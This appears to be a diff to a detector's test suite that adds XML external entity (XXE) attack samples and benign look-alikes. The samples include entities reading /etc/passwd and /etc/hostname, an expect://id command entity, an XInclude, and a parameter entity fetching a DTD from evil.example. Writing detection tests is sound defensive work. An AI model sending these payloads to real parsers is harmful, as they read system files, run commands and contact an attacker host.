@@ -1063,7 +1063,23 @@ const NOT_VALUE_CLIMB: Case[] = [
   ["query", "p=../../"],
 ];
 
+// An entity a parser fetches, a parameter entity, or an XInclude (xxe.ts).
+const EXTERNAL_ENTITY: Case[] = [
+  ["body:xml", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
+  ["body:xml", '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><a/></soap:Body></soap:Envelope>'],
+  ["body:form", "feed=" + encodeURIComponent('<!DOCTYPE x [<!ENTITY a PUBLIC "-//A//B" "expect://id">]><x>&a;</x>')],
+  ["body:json", JSON.stringify({ xml: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>' })],
+  ["query", "svg=" + encodeURIComponent('<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/hostname" > ]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>')],
+];
+const NOT_EXTERNAL_ENTITY: Case[] = [
+  ["body:xml", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>'],
+  ["body:xml", '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY ns_xlink "http://www.w3.org/1999/xlink">]><svg xmlns="&ns_svg;"/>'],
+  ["body:json", JSON.stringify({ doc: '<!DOCTYPE book [<!ENTITY product "Acme Widget">]><book><title>&product; guide</title></book>' })],
+  ["body:xml", '<doc><x:include href="part2.xml"/></doc>'],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["external-entity", "xxe", EXTERNAL_ENTITY, NOT_EXTERNAL_ENTITY],
   ["value-climb", "traversal", VALUE_CLIMB, NOT_VALUE_CLIMB],
   ["js-comparison", "nosqli", JS_COMPARISON, NOT_JS_COMPARISON],
   ["path-climb", "traversal", PATH_CLIMB, NOT_PATH_CLIMB],
